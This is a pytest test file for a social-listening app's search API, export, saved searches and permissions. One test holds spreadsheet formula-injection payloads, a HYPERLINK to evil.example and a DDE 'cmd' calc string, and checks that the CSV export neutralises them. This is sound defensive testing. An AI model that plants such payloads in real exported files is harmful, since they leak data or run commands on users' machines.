"""Search over HTTP: the query language and filters, parse errors at their column, keyset
pages that show every hit once, facet counts, the streamed export (CSV and JSON Lines) read
back whole, formula injection, saved searches and their use as an alert rule, and roles."""

from __future__ import annotations

import csv
import io
import json
import logging
import subprocess
import sys
from collections import Counter
from collections.abc import Callable
from contextlib import closing
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from html import escape
from pathlib import Path
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from pytest_httpserver import HTTPServer

from listener.cli.main import main as cli
from listener.config.settings import Settings
from listener.models import AlertKind, Author, Finding, Judgments, SentimentLabel
from listener.query import QueryError, parse
from listener.store import SQLiteStore, open_store
from listener.store.saved_searches import SavedSearches
from listener.store.search_facets import facet_counts
from listener.store.search_walk import walk
from listener.web.search_export import EXPORT_PAGE
from listener.web.search_views import form_from_params
from tests.alert_rules_helpers import NOW, Harness, judged
from tests.store_helpers import T0, make_mention
from tests.web_fixtures import WebServer
from tests.web_pages_helpers import browser_client, signed_in, token_client

Serve = Callable[..., WebServer]
SOURCES = ("reddit", "news", "forum")


def _judged(n: int) -> Judgments:
    label = (SentimentLabel.NEGATIVE, SentimentLabel.POSITIVE, SentimentLabel.NEUTRAL)[n % 3]
    return Judgments(
        sentiment_label=label,
        complaint=n % 4 == 0,
        feelings=(Finding("frustrated", ()),) if n % 5 == 0 else (),
        topics=(Finding("delivery", ()),) if n % 2 == 0 else (),
    )


def fill(store: SQLiteStore, count: int, *, start: int = 1) -> None:
    """``count`` mentions: odd ones say "anvil", sources, sentiments and judgments vary."""
    batch = []
    for n in range(start, start + count):
        batch.append(
            make_mention(
                n,
                source=SOURCES[n % 3],
                text=f"the acme anvil number {n} arrived late" if n % 2 else f"acme rocket {n}",
                brands=("Acme",) if n % 7 else ("Acme", "Globex"),
                language="en" if n % 6 else "de",
                judgments=_judged(n),
            )
        )
        if len(batch) == 500:
            store.insert_mentions(batch)
            batch = []
    if batch:
        store.insert_mentions(batch)


def api(running: WebServer) -> httpx.Client:
    return httpx.Client(base_url=running.url, timeout=30)


def all_pages(client: httpx.Client, params: dict[str, Any]) -> list[str]:
    ids: list[str] = []
    cursor = None
    for _ in range(1000):
        answer = client.get(
            "/api/v1/search", params={**params, **({"cursor": cursor} if cursor else {})}
        )
        assert answer.status_code == 200, answer.text
        body = answer.json()
        ids += [hit["id"] for hit in body["items"]]
        cursor = body["next_cursor"]
        if cursor is None:
            return ids
    raise AssertionError("paging never ended")


def test_a_query_with_filters_finds_what_a_direct_read_finds(web_server: Serve) -> None:
    running = web_server()
    fill(running.store, 60)
    with api(running) as client:
        body = client.get(
            "/api/v1/search",
            params={"q": "anvil", "sentiment": "negative", "source": "reddit", "limit": 100},
        ).json()
    expected = {
        f"{SOURCES[n % 3]}:{n}"
        for n in range(1, 61)
        if n % 2 and n % 3 == 0 and SOURCES[n % 3] == "reddit"
    }
    assert expected  # the case is not empty
    assert {hit["id"] for hit in body["items"]} == expected
    first = body["items"][0]
    assert "<mark>anvil</mark>" in first["snippet_html"]
    assert first["link"] == "/mentions/" + first["id"].replace(":", "%3A")
    assert first["sentiment_label"] == "negative"


def test_dates_are_inclusive_days_and_complaint_feeling_topic_language_filter(
    web_server: Serve,
) -> None:
    running = web_server()
    fill(running.store, 40)
    day = (T0 + timedelta(minutes=10)).date().isoformat()
    with api(running) as client:
        dated = client.get("/api/v1/search", params={"from": day, "to": day, "limit": 100})
        feeling = client.get(
            "/api/v1/search",
            params={"complaint": "yes", "feeling": "frustrated", "topic": "delivery", "limit": 100},
        )
        german = client.get("/api/v1/search", params={"language": "de", "limit": 100})
    assert len(dated.json()["items"]) == 40  # T0 + n minutes: every mention is on that day
    assert {h["id"].split(":")[1] for h in feeling.json()["items"]} == {"20", "40"}
    assert {h["id"].split(":")[1] for h in german.json()["items"]} == {
        "6",
        "12",
        "18",
        "24",
        "30",
        "36",
    }


def test_a_bad_query_is_a_400_problem_with_its_column(web_server: Serve) -> None:
    running = web_server()
    with api(running) as client:
        answer = client.get("/api/v1/search", params={"q": 'acme AND (late OR "broken'})
        page = client.get("/search", params={"q": "acme AND"})
        bad_filter = client.get("/api/v1/search", params={"from": "yesterday-ish"})
        partial = client.get("/search", params={"q": "acme"}, headers={"HX-Target": "results"})
        # A plain GET form sends its empty fields: the shareable URL leaves them out.
        tidy = client.get("/search?q=acme&brand=&sentiment=&sort=relevance")
    assert partial.text.lstrip().startswith('<div id="results"') and "<html" not in partial.text
    assert partial.headers["hx-push-url"] == "/search?q=acme"
    assert tidy.status_code == 303 and tidy.headers["location"] == "/search?q=acme"
    assert answer.status_code == 400
    assert answer.headers["content-type"].startswith("application/problem+json")
    problem = answer.json()
    assert problem["status"] == 400 and isinstance(problem["column"], int)
    assert 1 <= problem["column"] <= len('acme AND (late OR "broken') + 1
    assert page.status_code == 200  # a page that says what is wrong, under the box
    assert "cannot run" in page.text and "^ column" in page.text
    assert bad_filter.status_code == 400 and "from must be a date" in bad_filter.json()["detail"]


@pytest.mark.parametrize("sort", ["relevance", "newest"])
@pytest.mark.parametrize("q", ["anvil", ""])
def test_paging_shows_every_hit_exactly_once(web_server: Serve, q: str, sort: str) -> None:
    running = web_server()
    fill(running.store, 1300)  # past the store's ranked window of 1,000
    with api(running) as client:
        ids = all_pages(client, {"q": q, "sort": sort, "limit": 100})
    expected = 650 if q else 1300
    assert len(ids) == expected
    assert len(set(ids)) == expected


def test_facets_agree_with_a_direct_count_below_the_cap(web_server: Serve) -> None:
    running = web_server()
    fill(running.store, 90)
    with api(running) as client:
        body = client.get("/api/v1/search", params={"q": "anvil"}).json()
    facets = {
        g["name"]: {v["value"]: v["count"] for v in g["values"]} for g in body["facets"]["groups"]
    }
    assert body["facets"]["capped"] is False and body["facets"]["counted"] == 45
    matches = [n for n in range(1, 91) if n % 2]
    assert facets["source"] == dict(Counter(SOURCES[n % 3] for n in matches))
    labels = ("negative", "positive", "neutral")
    assert facets["sentiment"] == dict(Counter(labels[n % 3] for n in matches))
    assert facets["complaint"] == {"no": 45}  # odd numbers are never multiples of 4
    assert facets["brand"] == {"Acme": 45, "Globex": len([n for n in matches if n % 7 == 0])}
    assert facets["language"] == {"en": 45}  # multiples of 6 are even
    assert facets["feeling"] == {"frustrated": len([n for n in matches if n % 5 == 0])}
    # Each facet value links to the search narrowed to it.
    narrowed = next(
        v for g in body["facets"]["groups"] if g["name"] == "source" for v in g["values"]
    )
    assert "source=" + narrowed["value"] in narrowed["url"]


def test_facets_count_the_newest_thousand_and_say_so_when_there_are_more(tmp_path: Path) -> None:
    with open_store(tmp_path / "x.db") as store:
        fill(store, 1100)
        where = form_from_params({}).where()
        counts = facet_counts(store, where)
        capped_sample = facet_counts(store, where, sample=50)
    assert counts.capped and counts.counted == 1000
    assert sum(c for _, c in counts.values["source"]) == 1000
    # The newest 1,000 stored are numbers 101-1100.
    assert dict(counts.values["source"]) == dict(Counter(SOURCES[n % 3] for n in range(101, 1101)))
    assert capped_sample.counted == 50 and capped_sample.capped


def test_export_csv_and_jsonl_hold_the_whole_result_set_across_pages(web_server: Serve) -> None:
    running = web_server()
    total = EXPORT_PAGE * 2 + 37  # three pages of the walk
    fill(running.store, total * 2)
    with api(running) as client:
        as_csv = client.get("/search/export.csv", params={"q": "anvil"})
        as_jsonl = client.get("/api/v1/export", params={"q": "anvil", "format": "jsonl"})
        filtered = client.get("/api/v1/export", params={"sentiment": "negative", "format": "csv"})
    where = form_from_params({"q": "anvil"}).where()
    expected = [hit.mention.id for hit in walk(running.store, where)]
    assert len(expected) == total

    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    disposition = as_csv.headers["content-disposition"]
    assert disposition.startswith("attachment;") and ".csv" in disposition
    assert running.context.clock().date().isoformat() in disposition
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert [r["id"] for r in rows] == expected
    assert rows[0]["text"].startswith("the acme anvil number")

    lines = as_jsonl.text.splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["id"] for r in records] == expected
    assert as_jsonl.headers["content-type"].startswith("application/x-ndjson")

    negative = list(csv.DictReader(io.StringIO(filtered.content.decode("utf-8-sig"))))
    assert len(negative) == len([n for n in range(1, total * 2 + 1) if n % 3 == 0])
    assert {r["sentiment_label"] for r in negative} == {"negative"}


def test_an_export_of_a_bad_query_is_a_400_not_a_broken_download(web_server: Serve) -> None:
    running = web_server()
    with api(running) as client:
        answer = client.get("/api/v1/export", params={"q": "(acme", "format": "csv"})
    assert answer.status_code == 400
    assert answer.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    web_server: Serve, start: str
) -> None:
    running = web_server()
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click") acme'
    running.store.insert_mentions(
        [
            make_mention(
                1,
                title=payload,
                text=payload,
                author=Author(handle=f"{start}cmd|' /C calc'!A0", name=f"{start}1+1"),
            )
        ]
    )
    with api(running) as client:
        rows = list(
            csv.DictReader(
                io.StringIO(client.get("/search/export.csv").content.decode("utf-8-sig"))
            )
        )
    (row,) = rows
    for column in ("title", "text", "author_handle", "author_name"):
        assert row[column].startswith("'" + start), (column, row[column])
    assert row["sentiment_label"] == "unknown"


SAVED_RULE_SETTINGS = """\
brands:
  - name: Acme
    query: acme
storage:
  sqlite: {db}
sources:
  - name: feed
    type: rss
    url: {feed}
    interval: 5m
alerts:
  enabled: true
  channels:
    - {{name: hook, type: webhook, url: "{hook}"}}
  rules:
    - {{type: saved_search, name: anvils, saved: "Late anvils"}}
"""


def test_saved_search_crud_through_the_api(web_server: Serve) -> None:
    running = web_server()
    fill(running.store, 20)
    with closing(browser_client(running)) as client:
        made = client.post(
            "/api/v1/saved-searches",
            json={
                "name": "Late anvils",
                "query": "anvil late",
                "filters": {"sentiment": "negative"},
            },
        )
        assert made.status_code == 201, made.text
        assert made.json()["url"] == "/search?saved=Late%20anvils"
        clash = client.post("/api/v1/saved-searches", json={"name": "late ANVILS", "query": "x"})
        bad = client.post("/api/v1/saved-searches", json={"name": "broken", "query": "acme AND"})
        listed = client.get("/api/v1/saved-searches").json()
        opened = client.get("/search", params={"saved": "Late anvils"})
        renamed = client.put("/api/v1/saved-searches/Late anvils", json={"name": "Anvils"})
        changed = client.put("/api/v1/saved-searches/Anvils", json={"filters": {}})
        gone = client.delete("/api/v1/saved-searches/Anvils")
        again = client.get("/api/v1/saved-searches/Anvils")
    assert clash.status_code == 409
    with pytest.raises(QueryError) as parsed:
        parse("acme AND")
    assert bad.status_code == 400 and bad.json()["column"] == parsed.value.column
    assert [s["name"] for s in listed["items"]] == ["Late anvils"]
    # The saved search's URL runs it: three negative anvils among 20 mentions (3, 9, 15).
    assert opened.status_code == 200
    assert opened.text.count('class="hit card"') == 3
    assert renamed.json()["name"] == "Anvils"
    assert changed.json()["filters"] == {}
    assert gone.status_code == 204 and again.status_code == 404


def test_saved_search_pages_save_rename_and_delete_with_forms(web_server: Serve) -> None:
    running = web_server()
    with closing(browser_client(running)) as client:
        token = client.headers["X-CSRF-Token"]
        del client.headers["X-CSRF-Token"]  # plain forms carry the token as a field
        saved = client.post(
            "/search/saved",
            data={"csrf_token": token, "name": "Refunds", "q": "refund", "complaint": "yes"},
        )
        assert saved.status_code == 303 and saved.headers["location"] == "/search?saved=Refunds"
        listing = client.get("/search/saved")
        assert "Refunds" in listing.text and "complaint: yes" in listing.text
        renamed = client.post(
            "/search/saved/rename",
            data={"csrf_token": token, "name": "Refunds", "new_name": "Money"},
        )
        assert renamed.status_code == 303
        deleted = client.post("/search/saved/delete", data={"csrf_token": token, "name": "Money"})
        assert deleted.status_code == 303
        assert "No saved searches yet" in client.get("/search/saved").text
        no_token = client.post("/search/saved", data={"name": "x", "q": "y"})
        assert no_token.status_code == 403


def fresh_feed(entries: list[tuple[str, str]]) -> bytes:
    """An RSS document of posts published two minutes ago (alerts fire for fresh posts)."""
    when = format_datetime(datetime.now(UTC) - timedelta(minutes=2))
    items = "".join(
        f"<item><guid>{guid}</guid><title>{escape(text[:40])}</title>"
        f"<link>https://forum.example.org/t/{guid}</link>"
        f"<description>{escape(text)}</description><pubDate>{when}</pubDate></item>"
        for guid, text in entries
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>Forum</title><link>https://forum.example.org/</link>{items}</channel></rss>"
    ).encode()


def test_a_saved_search_as_an_alert_rule_through_check_and_a_poll(
    tmp_path: Path, httpserver: HTTPServer
) -> None:
    db = tmp_path / "listener.db"
    settings = tmp_path / "settings.yaml"
    settings.write_text(
        SAVED_RULE_SETTINGS.format(
            db=db, feed=httpserver.url_for("/feed.xml"), hook=httpserver.url_for("/hook")
        ),
        encoding="utf-8",
    )
    httpserver.expect_request("/hook", method="POST").respond_with_data("ok")
    runner = CliRunner()
    with open_store(db):
        pass  # a store without the saved search
    refused = runner.invoke(cli, ["check", "--config", str(settings)])
    assert refused.exit_code == 2
    assert "Late anvils" in refused.output and "does not hold" in refused.output

    with open_store(db) as store:
        SavedSearches(store).save("Late anvils", "anvil", {"source": "feed"}, by="test", at=T0)
    accepted = runner.invoke(cli, ["check", "--config", str(settings)])
    assert accepted.exit_code == 0, accepted.output

    httpserver.expect_request("/feed.xml").respond_with_data(
        fresh_feed(
            [
                ("1", "My acme anvil arrived today, lovely"),
                ("2", "The acme rocket is fine"),
            ]
        ),
        content_type="application/rss+xml",
    )
    # A real `listener poll` process: the daemon's own path from feed to alert rule (and no
    # event loop of this test process, which a browser test may hold, in the way).
    listener = Path(sys.executable).with_name("listener")
    polled = subprocess.run(
        [str(listener), "poll", "--config", str(settings)],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert polled.returncode == 0, polled.stderr
    with open_store(db) as store:
        alerts = store.list_alerts()
    saved_alerts = [a for a in alerts if a.rule == "anvils"]
    assert len(saved_alerts) == 1
    assert "anvil" in saved_alerts[0].title.lower()
    assert saved_alerts[0].details["saved"] == "Late anvils"
    assert saved_alerts[0].details["query"] == "anvil"


def test_a_saved_search_a_rule_uses_cannot_be_deleted_or_renamed(web_server: Serve) -> None:
    settings = SAVED_RULE_SETTINGS.replace("{feed}", "http://127.0.0.1:9/feed.xml").replace(
        "{hook}", "http://127.0.0.1:9/hook"
    )
    running = web_server(settings)
    with closing(browser_client(running)) as client:
        client.post("/api/v1/saved-searches", json={"name": "Late anvils", "query": "anvil"})
        refused = client.delete("/api/v1/saved-searches/late anvils")
        rename = client.put("/api/v1/saved-searches/Late anvils", json={"name": "Other"})
        shown = client.get("/api/v1/saved-searches/Late anvils").json()
    assert refused.status_code == 409 and "anvils" in refused.json()["detail"]
    assert rename.status_code == 409
    assert shown["used_by_rules"] == ["anvils"]


def test_viewers_search_and_export_but_cannot_save(web_server: Serve) -> None:
    running = web_server()
    fill(running.store, 5)
    with token_client(running, "reader", "viewer") as viewer:
        assert viewer.get("/api/v1/search", params={"q": "anvil"}).status_code == 200
        assert viewer.get("/api/v1/export", params={"format": "jsonl"}).status_code == 200
        assert viewer.get("/api/v1/saved-searches").status_code == 200
        refused = viewer.post("/api/v1/saved-searches", json={"name": "x", "query": "acme"})
        assert refused.status_code == 403
        assert viewer.delete("/api/v1/saved-searches/x").status_code == 403
    with closing(signed_in(running, "vera", "viewer")) as browser:
        page = browser.get("/search", params={"q": "anvil"})
        assert page.status_code == 200 and "Save search" not in page.text
        assert browser.post("/search/saved", data={"name": "x", "q": "y"}).status_code == 403
    with token_client(running, "helper", "agent") as agent:
        made = agent.post("/api/v1/saved-searches", json={"name": "x", "query": "acme"})
        assert made.status_code == 201 and made.json()["created_by"] == "helper"
    with httpx.Client(base_url=running.url) as nobody:
        assert nobody.get("/api/v1/search").status_code == 401


def _rule_settings(db: Path, saved: str) -> Settings:
    return Settings.model_validate(
        {
            "brands": [{"name": "acme", "query": "acme"}],
            "storage": {"sqlite": str(db)},
            "alerts": {
                "enabled": True,
                "channels": [{"name": "slack", "type": "console"}],
                "rules": [{"type": "saved_search", "name": "watch", "saved": saved}],
            },
        }
    )


def test_a_saved_rule_honours_the_saved_filters_and_an_empty_query(tmp_path: Path) -> None:
    db = tmp_path / "alerts.db"
    with open_store(db) as store:
        saved = SavedSearches(store)
        filters = {
            "complaint": "yes",
            "sentiment": "negative",
            "topic": "billing",
            "sort": "newest",
        }
        saved.save("Angry refunds", "refund", filters, by="t", at=NOW)
        saved.save("Any complaint", "", {"complaint": "yes"}, by="t", at=NOW)
    h = Harness(tmp_path, _rule_settings(db, "Angry refunds"))
    h.feed(
        [
            judged("acme refund never came", complaint=True, topics=["billing"], n=1),
            judged("acme refund never came", complaint=False, topics=["billing"], n=2),
            judged("acme refund never came", complaint=True, topics=["delivery"], n=3),
            judged("acme lost my parcel", complaint=True, topics=["billing"], n=4),
            judged("acme refund, thanks", negative=False, topics=["billing"], n=5),
        ]
    )
    assert [a.mention_ids for a in h.alerts(AlertKind.SAVED_SEARCH)] == [("feed:1",)]
    h.store.close()

    h = Harness(tmp_path / "any", _rule_settings(db, "Any complaint"))
    h.feed([judged("acme is slow", complaint=True, n=6), judged("acme ok", complaint=False, n=7)])
    assert [a.mention_ids for a in h.alerts(AlertKind.SAVED_SEARCH)] == [("feed:6",)]
    h.store.close()


def test_a_saved_rule_whose_search_is_gone_raises_nothing_and_says_so(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    db = tmp_path / "alerts.db"
    with caplog.at_level(logging.ERROR, logger="alerts.rules.saved_search"):
        h = Harness(tmp_path, _rule_settings(db, "Nobody saved this"))
    assert "cannot run" in caplog.text
    h.feed([judged("acme refund", n=1)])
    assert h.alerts(AlertKind.SAVED_SEARCH) == []
    h.store.close()


@pytest.mark.parametrize("q", ["anvil", ""])
def test_a_post_deleted_at_its_source_is_never_shown_counted_or_exported(
    web_server: Serve, q: str
) -> None:
    running = web_server()
    fill(running.store, 9)
    running.store.tombstone_mentions(["forum:5"], T0 + timedelta(days=1))
    with api(running) as client:
        for sort in ("relevance", "newest"):
            ids = all_pages(client, {"q": q, "sort": sort, "limit": 2})
            assert "forum:5" not in ids and len(ids) == (4 if q else 8)
        counted = client.get("/api/v1/search", params={"q": q}).json()["facets"]["counted"]
        exported = client.get("/api/v1/export", params={"q": q, "format": "jsonl"}).text
    assert counted == (4 if q else 8)
    assert "forum:5" not in exported and len(exported.splitlines()) == (4 if q else 8)


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"to": "9999-12-31"}, 200),  # the calendar's last day: no end, not an overflow
        ({"from": "2026-03-02", "to": "2026-03-01"}, 400),
        ({"cursor": "o" + "9" * 19}, 400),
        ({"cursor": "k" + "9" * 19, "sort": "newest"}, 400),
        ({"cursor": "k12", "sort": "relevance"}, 400),  # another order's cursor
        ({"q": "a\x00b"}, 200),
        ({"q": '"unterminated'}, 400),  # a phrase never closed: its column
        ({"q": "x" * 5000}, 400),
    ],
)
def test_edge_values_are_answers_or_400s_never_500s(
    web_server: Serve, params: dict[str, str], status: int
) -> None:
    running = web_server()
    fill(running.store, 3)
    with api(running) as client:
        assert client.get("/api/v1/search", params=params).status_code == status
        page = client.get("/search", params=params, follow_redirects=True)
        assert page.status_code == 200  # the page explains
